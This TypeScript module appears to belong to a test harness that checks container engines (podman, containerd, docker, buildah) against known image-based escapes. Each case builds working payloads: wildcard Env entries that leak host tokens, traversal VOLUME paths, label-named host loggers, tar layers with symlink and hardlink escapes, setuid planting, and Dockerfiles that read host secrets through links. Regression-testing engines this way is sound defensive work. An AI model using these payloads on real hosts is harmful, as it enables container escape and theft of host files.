/**
 * Attacks of what an image says of itself: its configuration, its layers, the files that builds resolve.
 *
 * @module
 */

import { concat, item } from "../helpers/tar.ts";
import { type Attack, sawSecret, sh } from "./attack.ts";
import { exists, link, runHost } from "./scene.ts";

const END = new Uint8Array(1024);
const SETUID = "#!/bin/sh\necho executed\n";

export const IMAGES: readonly Attack[] = [
  {
    id: "CVE-2026-57231",
    engine: "podman",
    title: "Env entries of the image without a value, and *, take the engine's own environment",
    needs: ["images"],
    order: ({ secret }) =>
      ["TOKEN_OF_HOST", "TOKEN*", "*"].map((entry) => ({
        image: { Env: ["PATH=/bin", entry] },
        callersEnv: { TOKEN_OF_HOST: secret },
        args: sh("env"),
      })),
    succeeded: sawSecret,
  },
  {
    id: "CVE-2022-23648",
    engine: "containerd",
    title: "VOLUME paths of the image with .. and links have files of the host copied in",
    needs: ["images"],
    prepare: ({ host, rootfs }) => link(host, `${rootfs}/data`),
    order: ({ host }) =>
      [`/../../../../../../../..${host}`, "/data", `/vol/../../../../../../../../..${host}`].map((volume) => ({
        image: { Volumes: { [volume]: {} } },
        args: sh(`cat /data/secret ${host}/secret /.vol/secret /vol/secret 2>/dev/null; ls -R /data /vol`),
      })),
    succeeded: sawSecret,
  },
  {
    id: "CVE-2026-53488",
    engine: "containerd",
    title: "labels of the image name a logger (binary://) that the host executes",
    needs: ["images", "detached containers"],
    async attempt(scene, engine) {
      const logger = `${scene.host}/logger`, uri = `binary://${logger}`;
      await Deno.writeTextFile(logger, `#!/bin/sh\ntouch ${scene.host}/executed\n`, { mode: 0o755 });
      const Labels = {
        "containerd.io/restart.loguri": uri,
        "containerd.io/restart.status": "running",
        "io.podman.annotations.log-driver": uri,
        "io.sauropod.log": uri,
        "log-driver": uri,
      };
      await using live = await engine.live?.(scene, {
        image: { Labels },
        args: ["/bin/busybox", "sh", "-c", "echo x; sleep 20"],
      });
      await new Promise((end) => setTimeout(end, 300));
      return { code: live ? 0 : 1, output: "tried" };
    },
    succeeded: ({ host }) => exists(`${host}/executed`),
  },
  {
    id: "CVE-2026-46703",
    engine: "boxlite",
    title: "a layer has a link to the host, and then a file behind it",
    needs: ["images"],
    order: ({ host }) => {
      const through = (target: string) =>
        concat(
          item({ name: "escape", type: "2", target }),
          item({ name: "escape/made", body: "made" }),
          END,
        );
      const hard = concat(item({ name: "near", type: "1", target: `${host}/secret` }), END);
      return [through(host), through(`../../../../../../..${host}`), hard].map((layer) => ({
        image: {},
        layers: [layer],
        args: ["/near"],
      }));
    },
    succeeded: (scene, evidence) => exists(`${scene.host}/made`) || sawSecret(scene, evidence),
  },
  {
    id: "CVE-2021-41091",
    engine: "docker",
    title: "a plain user of the host reaches set-user-id programs of images and containers in the engine's folders",
    needs: ["images", "detached containers", "storage"],
    async attempt(scene, engine) {
      await Deno.writeTextFile(`${scene.rootfs}/setuid-of-image`, SETUID);
      await Deno.chmod(`${scene.rootfs}/setuid-of-image`, 0o4755);
      const make = "cp /setuid-of-image /setuid-of-container; chmod 4755 /setuid-of-container; sleep 20";
      await using live = await engine.live?.(scene, { image: {}, args: ["/bin/busybox", "sh", "-c", make] });
      await new Promise((end) => setTimeout(end, 500));
      // What the user of the engine lays down as a plain folder is no storage of the engine's.
      const own = engine.name === "naive" ? [] : ["-path", `${scene.rootfs}`, "-prune", "-o"];
      const found = await runHost([
        ...["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"],
        ...["find", engine.storage ?? scene.room, ...own, "-name", "setuid-of-*", "-perm", "-4001", "-print"],
      ]);
      return { code: live ? 0 : 1, output: `tried ${found.output.replaceAll(/find: .*\n/g, "")}` };
    },
    succeeded: (_, { output }) => output.includes("/setuid-of-"),
  },
  {
    id: "CVE-2024-1753",
    engine: "buildah",
    title: "a build mounts, or copies, the host's files through a link of a stage",
    needs: ["build"],
    async prepare({ host, room, rootfs }) {
      await link(host, `${rootfs}/link`);
      await Deno.mkdir(`${room}/stage`);
      await link(host, `${room}/stage/link`);
    },
    async attempt(scene, engine) {
      const context = `${scene.room}/context`;
      await Deno.mkdir(context);
      await link(scene.host, `${context}/link`);
      let output = "", code = 0;
      const mount = `--mount=type=bind,from=stage,source=/link,target=/mnt`;
      for (
        const steps of [
          `FROM attack AS stage\nFROM attack\nRUN ${mount} cat /mnt/secret\n`,
          `FROM attack AS stage\nFROM attack\nCOPY --from=stage /link/secret /copied\nRUN cat /copied\n`,
          `FROM attack\nCOPY link/secret /copied\nRUN cat /copied\n`,
        ]
      ) {
        await Deno.writeTextFile(`${context}/Dockerfile`, steps);
        const built = await engine.build?.(scene, context) ?? { code: 1, output: "" };
        [output, code] = [`${output}${built.output}`, built.code];
      }
      return { code, output };
    },
    succeeded: sawSecret,
  },
];
